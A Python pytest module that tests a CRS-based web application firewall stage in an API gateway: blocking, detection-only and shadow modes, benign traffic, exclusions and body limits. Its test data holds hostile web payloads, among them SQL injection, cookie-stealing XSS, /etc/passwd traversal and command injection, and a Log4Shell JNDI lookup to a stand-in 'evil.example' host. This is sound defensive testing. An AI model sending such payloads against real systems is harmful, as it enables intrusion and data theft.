"""The CRS WAF stage in the route chain, over real sockets: attacks of each CRS family refused at PL1
(403 waf_blocked, the upstream never called), the same requests forwarded and recorded in
detection-only and shadow mode, a benign corpus untouched, per-route exclusions, body limits, WAF
before validation and after authentication, and config errors that keep the running config.

Needs the CRS 3.3 rule files (scripts/install-crs.sh); ``GARRISON_CRS_RULES`` points elsewhere.
One gateway serves the whole module: loading the CRS takes ~1-2 s.
"""

from __future__ import annotations

import json
import logging
import os
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from garrison.pipeline.stages.waf import ENGINES
from garrison.waf.config import DEFAULT_RULES_DIR
from support.gateway import GatewayThread, Signer, base_config

RULES = Path(os.environ.get("GARRISON_CRS_RULES", DEFAULT_RULES_DIR))
pytestmark = pytest.mark.skipif(
    not RULES.is_dir() or not any(RULES.glob("*.conf")),
    reason=f"CRS rule files not found in {RULES} (run scripts/install-crs.sh or set GARRISON_CRS_RULES)",
)

ORDER_SCHEMA = {
    "type": "object",
    "required": ["sku", "qty"],
    "properties": {"sku": {"type": "string"}, "qty": {"type": "integer"}, "note": {"type": "string"}},
}


class Upstream:
    """A real HTTP upstream that remembers every request it got (so a test can prove none arrived)."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, bytes]] = []
        seen = self.seen

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _any(self) -> None:
                n = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(n) if n else b""
                seen.append((self.command, self.path, body))
                out = json.dumps({"method": self.command, "path": self.path}).encode()
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(out)))
                self.end_headers()
                self.wfile.write(out)

            do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _any

            def log_message(self, format: str, *args: object) -> None:
                return None

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self.server.server_address[1])
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _routes(up: int) -> str:
    u = f"http://127.0.0.1:{up}"
    return f"""
  - {{name: waf, path: /waf/**, upstream: "{u}", public: true}}
  - {{name: detect, path: /detect/**, upstream: "{u}", public: true, waf: {{mode: detection_only}}}}
  - {{name: shadowed, path: /shadow-waf/**, upstream: "{u}", public: true, shadow: {{waf: true}}}}
  - {{name: excl, path: /excl/**, upstream: "{u}", public: true, waf: {{exclusions: [942100]}}}}
  - {{name: nowaf, path: /nowaf/**, upstream: "{u}", public: true, waf: {{enabled: false}}}}
  - {{name: pl2, path: /pl2/**, upstream: "{u}", public: true, waf: {{paranoia_level: 2}}}}
  - name: validated
    path: /validated
    methods: [POST]
    upstream: "{u}"
    public: true
    validate: {{json_schema: order.json}}
  - {{name: private, path: /private/**, upstream: "{u}"}}
"""


WAF = f"waf: {{rules_dir: {RULES}, max_body_bytes: 65536}}"


@pytest.fixture(scope="module")
def upstream() -> Iterator[Upstream]:
    up = Upstream()
    try:
        yield up
    finally:
        up.close()


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("waf")
    (d / "order.json").write_text(json.dumps(ORDER_SCHEMA))
    return d


@pytest.fixture(scope="module")
def module_signer(workdir: Path) -> Signer:
    return Signer(workdir)


@pytest.fixture(scope="module")
def gw(workdir: Path, module_signer: Signer, upstream: Upstream) -> Iterator[GatewayThread]:
    def text(port: int) -> str:
        t = base_config(module_signer, port, log=workdir / "decisions.jsonl", extra=WAF)
        return t.replace("routes:\n", "routes:\n" + _routes(upstream.port).lstrip("\n"), 1)

    g = GatewayThread(workdir, text).start(timeout=180)  # cold hyperscan cache: tens of seconds
    try:
        yield g
    finally:
        g.stop()


@pytest.fixture(scope="module")
def client(gw: GatewayThread) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=gw.url) as c:  # one client: building an SSL context costs ~0.2 s
        yield c


def _record(gw: GatewayThread, request_id: str) -> dict[str, Any]:
    """The decision record of one request (the log is written by a thread every 0.1 s)."""
    path = gw.workdir / "decisions.jsonl"
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        if path.exists():
            for line in path.read_text().splitlines():
                rec: dict[str, Any] = json.loads(line)
                if rec["request_id"] == request_id:
                    return rec
        time.sleep(0.05)
    raise AssertionError(f"no decision record for {request_id}")


# (id, method, target, extra headers, body, content type, a rule id that must be logged)
Attack = tuple[str, str, str, dict[str, str], bytes, str | None, int]
ATTACKS: list[Attack] = [
    ("sqli", "GET", "/search?q=1%27%20OR%20%271%27%3D%271", {}, b"", None, 942100),
    ("sqli-union", "GET", "/search?id=1%20UNION%20SELECT%20password%20FROM%20users--", {}, b"", None, 942190),
    ("xss", "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", {}, b"", None, 941100),
    ("path-traversal", "GET", "/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd", {}, b"", None, 930100),
    ("cmd-injection", "GET", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", {}, b"", None, 932100),
    ("php-injection", "GET", "/x?code=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E", {}, b"", None, 933100),
    ("php-wrapper", "GET", "/x?file=php%3A%2F%2Finput", {}, b"", None, 933140),
    ("java-injection", "GET", "/x?c=java.lang.Runtime.getRuntime().exec(%22id%22)", {}, b"", None, 944130),
    ("log4shell-arg", "GET", "/x?v=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", {}, b"", None, 932130),
    ("crlf-injection", "GET", "/x?lang=en%0d%0aSet-Cookie:%20session=evil", {}, b"", None, 921120),
    (
        "form-sqli",
        "POST",
        "/login",
        {},
        b"user=admin%27--&pass=x",
        "application/x-www-form-urlencoded",
        942100,
    ),
    ("json-xss", "POST", "/c", {}, b'{"comment":"<img src=x onerror=alert(1)>"}', "application/json", 941100),
]
ATTACK_IDS = [a[0] for a in ATTACKS]


def _send(client: httpx.Client, prefix: str, attack: Attack) -> httpx.Response:
    _, method, target, headers, body, ctype, _ = attack
    h = dict(headers)
    if ctype is not None:
        h["content-type"] = ctype
    return client.request(method, prefix + target, content=body or None, headers=h)


@pytest.mark.parametrize("attack", ATTACKS, ids=ATTACK_IDS)
def test_attack_is_blocked_at_pl1_before_the_upstream(
    gw: GatewayThread,
    client: httpx.Client,
    upstream: Upstream,
    attack: Attack,
) -> None:
    before = len(upstream.seen)
    r = _send(client, "/waf", attack)
    assert r.status_code == 403
    assert r.json() == {"error": "waf_blocked", "request_id": r.headers["x-request-id"]}
    assert len(upstream.seen) == before  # nothing reached the service
    rec = _record(gw, r.headers["x-request-id"])
    assert (rec["decision"], rec["stage"], rec["reason"]) == ("deny", "waf", "waf_blocked")
    rule = str(rec["rule"])
    ids, _, score = rule.removeprefix("waf:").partition(";score=")
    assert str(attack[6]) in ids.split(",") and "949110" in ids.split(",")  # the match and the verdict
    assert int(score) >= 5


@pytest.mark.parametrize("attack", ATTACKS, ids=ATTACK_IDS)
def test_detection_only_forwards_and_records_the_same_attack(
    gw: GatewayThread,
    client: httpx.Client,
    upstream: Upstream,
    attack: Attack,
) -> None:
    before = len(upstream.seen)
    r = _send(client, "/detect", attack)
    assert r.status_code == 200
    assert len(upstream.seen) == before + 1
    assert upstream.seen[-1][2] == attack[4]  # the body went on unchanged
    rec = _record(gw, r.headers["x-request-id"])
    assert rec["decision"] == "allow"
    shadow = rec["shadow"]
    assert isinstance(shadow, list) and len(shadow) == 1
    assert shadow[0]["stage"] == "waf" and shadow[0]["reason"] == "waf_blocked"
    assert str(attack[6]) in shadow[0]["rule"]


def test_shadow_waf_forwards_and_records(gw: GatewayThread, client: httpx.Client) -> None:
    r = client.get("/shadow-waf/search", params={"q": "<script>alert(document.cookie)</script>"})
    assert r.status_code == 200
    rec = _record(gw, r.headers["x-request-id"])
    assert rec["decision"] == "allow"
    assert [(s["stage"], s["reason"]) for s in rec["shadow"]] == [("waf", "waf_blocked")]
    metrics = client.get(gw.admin_url + "/metrics").text
    assert 'stage="waf"' in metrics and 'mode="shadow"' in metrics


BENIGN = [
    (
        "json-api",
        "POST",
        "/orders",
        {
            "sku": "ab-12",
            "qty": 3,
            "note": "Please deliver after 5pm, thanks! (ring twice)",
            "email": "jane.doe+shop@example.com",
            "id": "3f1c2a9e-8b7d-4c6e-9f10-2a3b4c5d6e7f",
            "tags": ["gift", "fragile"],
            "price": {"amount": 12.5, "currency": "EUR"},
        },
    ),
    ("json-put", "PUT", "/items/42", {"name": "Widget (large)", "price": 12.5, "active": True}),
    ("json-patch", "PATCH", "/items/42", {"price": 9.99, "description": "Now 20% off - limited time"}),
    ("delete", "DELETE", "/items/3f1c2a9e-8b7d-4c6e-9f10-2a3b4c5d6e7f", None),
    ("search-punct", "GET", "/search?q=C%2B%2B+vs+Rust%3A+what%27s+faster%3F&page=2&sort=-date", None),
    ("search-words", "GET", "/search?q=select+the+best+option+from+the+menu&lang=en-GB", None),
    ("uuid-fields", "GET", "/items/3f1c2a9e-8b7d-4c6e-9f10-2a3b4c5d6e7f?fields=id,name,price", None),
    ("base64", "GET", "/x?blob=SGVsbG8gV29ybGQh%2Fw%3D%3D&cursor=eyJwYWdlIjoyfQ%3D%3D", None),
    ("email", "GET", "/users?email=sean.obrien%40example.com&include=orders", None),
    ("dates", "GET", "/reports?from=2026-01-01T00%3A00%3A00Z&to=2026-02-01&tz=Europe%2FParis", None),
]


@pytest.mark.parametrize("case", BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_requests_pass_at_pl1(
    client: httpx.Client, upstream: Upstream, case: tuple[str, str, str, object]
) -> None:
    _, method, target, body = case
    content = json.dumps(body).encode() if body is not None else None
    headers = {"content-type": "application/json"} if body is not None else {}
    r = client.request(method, "/waf" + target, content=content, headers=headers)
    assert r.status_code == 200, r.text
    assert upstream.seen[-1][:2] == (method, "/waf" + target)
    assert upstream.seen[-1][2] == (content or b"")


def test_benign_form_post_passes(client: httpx.Client, upstream: Upstream) -> None:
    form = {"name": "O'Brien", "email": "sean.obrien@example.com", "city": "São Paulo", "bio": "cats & dogs."}
    r = client.post("/waf/signup", data=form)
    assert r.status_code == 200, r.text
    assert upstream.seen[-1][0] == "POST" and b"O%27Brien" in upstream.seen[-1][2]


def test_route_exclusion_lets_that_request_through_on_that_route_only(
    gw: GatewayThread, client: httpx.Client
) -> None:
    q = {"q": "1' OR '1'='1"}  # at PL1 only 942100 (libinjection) scores: 5 points
    blocked = client.get("/waf/search", params=q)
    assert blocked.status_code == 403
    assert "942100" in str(_record(gw, blocked.headers["x-request-id"])["rule"])
    assert client.get("/excl/search", params=q).status_code == 200
    # The exclusion is one rule, not the WAF: other attacks are still refused on that route.
    assert client.get("/excl/search", params={"q": "<script>alert(1)</script>"}).status_code == 403
    assert client.get("/excl/files", params={"name": "../../../etc/passwd"}).status_code == 403


def test_route_paranoia_level_applies_to_that_route(gw: GatewayThread, client: httpx.Client) -> None:
    q = {"q": "a';--"}  # only PL2's 942440 (SQL comment sequence) flags it
    assert client.get("/waf/search", params=q).status_code == 200
    r = client.get("/pl2/search", params=q)
    assert r.status_code == 403 and r.json()["error"] == "waf_blocked"
    assert "942440" in _record(gw, r.headers["x-request-id"])["rule"]


def test_route_without_waf_forwards_attacks(client: httpx.Client) -> None:
    r = client.get("/nowaf/search", params={"q": "<script>alert(1)</script>"})
    assert r.status_code == 200


def test_waf_runs_before_validation_on_the_buffered_body(client: httpx.Client, upstream: Upstream) -> None:
    before = len(upstream.seen)
    attack = client.post("/validated", json={"sku": "1' OR '1'='1", "qty": 1})
    assert attack.status_code == 403 and attack.json()["error"] == "waf_blocked"
    invalid = client.post("/validated", json={"sku": "a-1", "qty": "two"})  # benign, fails the schema
    assert invalid.status_code == 400 and invalid.json()["error"] == "validation_failed"
    assert len(upstream.seen) == before
    ok = client.post("/validated", json={"sku": "a-1", "qty": 2, "note": "leave at the door"})
    assert ok.status_code == 200 and len(upstream.seen) == before + 1


def test_large_bodies_are_inspected_off_the_loop_and_still_judged(
    client: httpx.Client, upstream: Upstream
) -> None:
    """Bodies from INLINE_BODY_CHECK_BYTES up go to the body-check worker thread: same verdicts."""
    import json
    import threading

    from garrison.proxy.server import INLINE_BODY_CHECK_BYTES

    items = [{"id": i, "name": f"widget {i}", "tags": ["a", "b"], "price": i * 1.5} for i in range(60)]
    benign = json.dumps({"items": items}).encode()
    hostile = json.dumps({"items": items, "note": "<script>alert(document.cookie)</script>"}).encode()
    assert len(benign) > INLINE_BODY_CHECK_BYTES
    before = len(upstream.seen)
    ok = client.post("/waf/items", content=benign, headers={"content-type": "application/json"})
    assert ok.status_code == 200, ok.text
    results: list[int] = []

    def attack() -> None:  # concurrent: the engine serializes inspections (one hyperscan scratch)
        r = client.post("/waf/items", content=hostile, headers={"content-type": "application/json"})
        results.append(r.status_code)

    threads = [threading.Thread(target=attack) for _ in range(3)]
    for t in threads:
        t.start()
    for _ in range(3):  # header-only requests inspected on the loop meanwhile
        assert client.get("/waf/search", params={"q": "blue widgets"}).status_code == 200
    for t in threads:
        t.join(30)
    assert results == [403, 403, 403]
    assert len(upstream.seen) == before + 1 + 3


def test_chunked_body_attack_is_inspected(client: httpx.Client, upstream: Upstream) -> None:
    before = len(upstream.seen)
    parts = [b"user=admin", b"%27%20OR%20", b"%271%27%3D%271&pass=x"]
    r = client.post(
        "/waf/login", content=iter(parts), headers={"content-type": "application/x-www-form-urlencoded"}
    )
    assert r.status_code == 403 and r.json()["error"] == "waf_blocked"
    assert len(upstream.seen) == before


def test_body_over_the_inspected_limit_is_refused(client: httpx.Client, upstream: Upstream) -> None:
    before = len(upstream.seen)
    big = b"a=" + b"x" * 70_000  # waf.max_body_bytes is 65536; the listener allows 1 MiB
    r = client.post("/waf/upload", content=big, headers={"content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 413 and r.json()["error"] == "body_too_large"
    chunked = client.post(
        "/waf/upload", content=iter([big[:40_000], big[40_000:]]), headers={"content-type": "text/plain"}
    )
    assert chunked.status_code == 413
    assert len(upstream.seen) == before
    # Padding cannot push a payload past the WAF: the padded attack is refused, not half-inspected.
    padded = b"pad=" + b"y" * 66_000 + b"&q=1%27%20OR%20%271%27%3D%271"
    r = client.post(
        "/waf/upload", content=padded, headers={"content-type": "application/x-www-form-urlencoded"}
    )
    assert r.status_code == 413


def test_authentication_comes_before_the_waf(client: httpx.Client, module_signer: Signer) -> None:
    r = client.get("/private/search", params={"q": "<script>alert(1)</script>"})
    assert r.status_code == 401  # no rule ran for an unauthenticated client
    token = module_signer.svc("microservice2")
    authed = client.get(
        "/private/search",
        params={"q": "<script>alert(1)</script>"},
        headers={"authorization": f"Bearer {token}"},
    )
    # Authenticated but not allowed by any policy: authz refuses before the WAF would.
    assert authed.status_code == 403 and authed.json()["error"] != "waf_blocked"


def test_reload_with_the_same_waf_section_reuses_the_engine(gw: GatewayThread, client: httpx.Client) -> None:
    loads = ENGINES.loads
    text = gw.config_path.read_text()
    assert gw.reload(text.replace("name: nowaf,", "name: nowaf2,"))
    assert ENGINES.loads == loads  # the rules were not parsed again
    r = client.get("/waf/search", params={"q": "<script>alert(1)</script>"})
    assert r.status_code == 403
    assert gw.reload(text)


def test_global_exclusions_by_tag_and_id(gw: GatewayThread, client: httpx.Client) -> None:
    loads = ENGINES.loads
    text = gw.config_path.read_text()
    excl = "max_body_bytes: 65536, exclusions: {tags: [attack-xss], rule_ids: [942100]}}"
    assert gw.reload(text.replace("max_body_bytes: 65536}", excl))
    try:
        assert ENGINES.loads == loads  # exclusions are per inspection: the same compiled rules
        assert client.get("/waf/search", params={"q": "<script>alert(1)</script>"}).status_code == 200
        assert client.get("/waf/search", params={"q": "1' OR '1'='1"}).status_code == 200
        assert client.get("/waf/files", params={"name": "../../../etc/passwd"}).status_code == 403
    finally:
        assert gw.reload(text)
    assert client.get("/waf/search", params={"q": "<script>alert(1)</script>"}).status_code == 403


def test_bad_rules_dir_is_a_clear_load_error_and_the_old_config_stays(
    gw: GatewayThread, client: httpx.Client, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    text = gw.config_path.read_text()
    missing = tmp_path / "no-such-crs"
    with caplog.at_level(logging.ERROR, logger="garrison"):
        assert not gw.reload(text.replace(f"rules_dir: {RULES}", f"rules_dir: {missing}"))
    assert f"waf.rules_dir: {missing} does not exist" in caplog.text
    empty = tmp_path / "empty"
    empty.mkdir()
    caplog.clear()
    with caplog.at_level(logging.ERROR, logger="garrison"):
        assert not gw.reload(text.replace(f"rules_dir: {RULES}", f"rules_dir: {empty}"))
    assert "no *.conf rule files" in caplog.text
    caplog.clear()
    with caplog.at_level(logging.ERROR, logger="garrison"):
        assert not gw.reload(text.replace("exclusions: [942100]", "exclusions: [999999]"))
    assert "no loaded rule has id [999999]" in caplog.text
    caplog.clear()
    with caplog.at_level(logging.ERROR, logger="garrison"):
        assert not gw.reload(text.replace(WAF, ""))  # routes keep their waf: keys
    assert "waf needs a top-level waf: section" in caplog.text
    gw.config_path.write_text(text)
    r = client.get("/waf/search", params={"q": "<script>alert(1)</script>"})
    assert r.status_code == 403  # still the old, working config


CRS4 = Path(os.environ.get("GARRISON_CRS4_RULES", "/work/shared/data/crs-v4.28.0-rules/rules"))


@pytest.mark.slow  # ~3 s with the hyperscan cache warm, 10-45 s the first time on a machine
@pytest.mark.skipif(not CRS4.is_dir(), reason=f"CRS 4 rules not found at {CRS4} (set GARRISON_CRS4_RULES)")
def test_crs4_rules_load_and_block_log4shell_in_a_header(tmp_path: Path, upstream: Upstream) -> None:
    """CRS 3.3.4 has no Log4Shell rule for headers; CRS 4's 944150 has, and a user may upgrade."""
    signer = Signer(tmp_path)
    (tmp_path / "order.json").write_text(json.dumps(ORDER_SCHEMA))

    def text(port: int) -> str:
        t = base_config(signer, port, extra=f"waf: {{rules_dir: {CRS4}}}")
        return t.replace("routes:\n", "routes:\n" + _routes(upstream.port).lstrip("\n"), 1)

    g = GatewayThread(tmp_path, text).start(timeout=180)  # cold hyperscan cache: up to ~45 s
    try:
        with httpx.Client(base_url=g.url) as c:
            before = len(upstream.seen)
            r = c.get("/waf/x", headers={"x-api-version": "${jndi:ldap://evil.example/a}"})
            assert r.status_code == 403 and r.json()["error"] == "waf_blocked"
            assert c.get("/waf/search", params={"q": "1' OR '1'='1"}).status_code == 403
            assert len(upstream.seen) == before
            assert c.get("/waf/search", params={"q": "blue shoes", "page": "2"}).status_code == 200
    finally:
        g.stop()
